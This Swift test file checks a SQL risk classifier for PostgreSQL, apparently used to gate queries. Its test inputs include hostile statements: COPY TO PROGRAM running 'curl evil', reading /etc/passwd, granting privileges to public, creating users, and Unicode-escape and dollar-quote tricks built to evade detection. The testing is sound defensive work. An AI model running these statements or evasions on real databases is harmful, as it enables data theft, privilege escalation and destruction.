import QueryGateCore
import Testing

@Suite("Risk analysis")
struct RiskAnalysisTests {
    @Test("Each statement kind gets its level", arguments: [
        ("SELECT * FROM customers WHERE id = 1", RiskAssessment.Level.readOnly),
        ("with recent as (select * from orders) select count(*) from recent", .readOnly),
        ("EXPLAIN SELECT 1", .readOnly),
        ("SHOW statement_timeout", .readOnly),
        ("INSERT INTO t VALUES (1)", .write),
        ("UPDATE customers SET phone = NULL WHERE id = 3", .write),
        ("WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone", .write),
        ("CREATE INDEX ON orders (placed_at)", .ddl),
        ("SELECT * INTO backup FROM orders", .ddl),
        ("DELETE FROM orders", .dangerous),
        ("update customers set phone = null", .dangerous),
        ("DROP TABLE orders", .dangerous),
        ("TRUNCATE orders", .dangerous),
        ("ALTER TABLE orders ADD COLUMN x int", .dangerous),
        ("GRANT ALL ON orders TO public", .dangerous),
        ("CREATE USER intruder", .dangerous),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", .dangerous),
        ("COPY orders TO PROGRAM 'curl evil'", .dangerous),
        ("EXPLAIN ANALYZE DELETE FROM orders", .dangerous),
        ("FROBNICATE everything", .write),
        ("SELECT nextval('s')", .write),
        ("COPY orders TO STDOUT", .readOnly),
        ("COPY (SELECT stdout FROM t) TO '/tmp/x'", .dangerous),
        ("COPY orders FROM STDIN", .write),
        ("SET search_path = public", .readOnly),
        ("SET TRANSACTION READ WRITE", .dangerous),
        ("set local \"transaction_read_only\" = off", .dangerous),
        ("RESET ALL", .dangerous),
        ("DISCARD TEMP", .dangerous),
        ("SELECT pg_catalog.set_config('a', 'b', false)", .dangerous),
        ("SELECT \"pg_read_file\"('/etc/passwd')", .dangerous),
        ("SELECT U&\"\\0073et_config\"('a', 'b', false)", .dangerous),
        ("SELECT U&\"!0073et_config\" UESCAPE '!' ('a', 'b', false)", .dangerous),
        ("SELECT query_to_xml('DELETE FROM t', true, true, '')", .dangerous),
        ("EXPLAIN (ANALYZE, VERBOSE) UPDATE t SET a = 1 WHERE b", .write),
        ("EXPLAIN (ANALYZE) SELECT 1", .readOnly),
    ])
    func levels(sql: String, level: RiskAssessment.Level) {
        #expect(RiskAnalysis.assess(sql: sql).level == level, "\(sql)")
    }

    @Test func wordsInsideStringsAndCommentsDoNotCount() {
        let sql = "SELECT 'DROP TABLE orders; DELETE FROM x' AS text, \"delete\" FROM t -- DROP everything\n/* TRUNCATE */ WHERE a = $$GRANT$$"
        #expect(RiskAnalysis.assess(sql: sql) == RiskAssessment(level: .readOnly, warnings: []))
    }

    @Test func aScriptTakesItsWorstStatementAndNamesWhereEachWarningIs() {
        let assessment = RiskAnalysis.assess(sql: "SELECT 1; UPDATE t SET a = 1 WHERE b = 2; DELETE FROM t;")
        #expect(assessment.level == .dangerous)
        #expect(assessment.warnings == ["statement 3: DELETE without WHERE changes every row of the table"])
    }

    @Test func transactionControlInsideARequestIsDangerous() {
        #expect(RiskAnalysis.assess(sql: "UPDATE t SET a = 1 WHERE b; COMMIT; UPDATE t SET a = 2 WHERE b").level == .dangerous)
    }

    @Test func nothingRecognisableIsAWrite() {
        #expect(RiskAnalysis.assess(sql: "-- only a comment").level == .write)
    }

    @Test func identifiersFollowTheServersLexerSoNothingHidesInAFakeDollarQuote() {
        // `x$$` and `€$a$` are identifiers to PostgreSQL, not the start of a dollar quote.
        #expect(RiskAnalysis.assess(sql: "SELECT 1 AS x$$; COMMIT; SELECT 1 AS y$$").level == .dangerous)
        #expect(RiskAnalysis.assess(sql: "SELECT 1 AS €$a$; DELETE FROM t; SELECT 1 AS €$a$").level == .dangerous)
        // After a number, `$a$` does open a dollar quote, as on the server.
        #expect(RiskAnalysis.assess(sql: "SELECT 1$a$; DELETE FROM t; $a$").level == .readOnly)
    }

    @Test func eachSettingChangeSaysWhatItDoes() {
        #expect(RiskAnalysis.assess(sql: "SET TimeZone = 'UTC'").warnings == ["SET timezone changes a session setting for the rest of the request"])
        #expect(RiskAnalysis.assess(sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE").warnings
            == ["SET CHARACTERISTICS changes the transaction's characteristics, such as its read-only mode"])
        #expect(RiskAnalysis.assess(sql: "COPY t TO '/tmp/x'").warnings == ["COPY … TO a file writes a file on the database server"])
    }
}
